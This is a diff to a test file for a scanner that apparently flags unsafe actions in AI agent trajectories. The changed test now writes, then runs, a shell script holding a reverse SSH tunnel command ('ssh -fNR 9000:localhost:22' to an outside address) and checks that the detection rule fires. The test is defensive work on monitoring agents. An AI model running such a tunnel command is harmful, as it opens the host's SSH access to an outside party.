@@ -118,7 +118,8 @@ def test_macros_expand_and_undefined_macros_are_errors(tmp_path):
 def test_exclusions_apply_to_the_line_of_the_match():
     scanner = Scanner.from_rules([MINI])
     script = "#!/bin/sh\nman ssh -R 1\nssh -fNR 9000:localhost:22 u@203.0.113.9\n"
-    assert "mini-ssh-reverse" in rule_ids(scanner.scan(traj(call("write_file", {"path": "t.sh", "content": script}))))
+    written_then_run = traj(call("write_file", {"path": "t.sh", "content": script}), tool("ok"), bash("sh t.sh", "c2"))
+    assert "mini-ssh-reverse" in rule_ids(scanner.scan(written_then_run))
     assert not scanner.scan(traj(bash("man ssh -R 1"))).unsafe
 
 
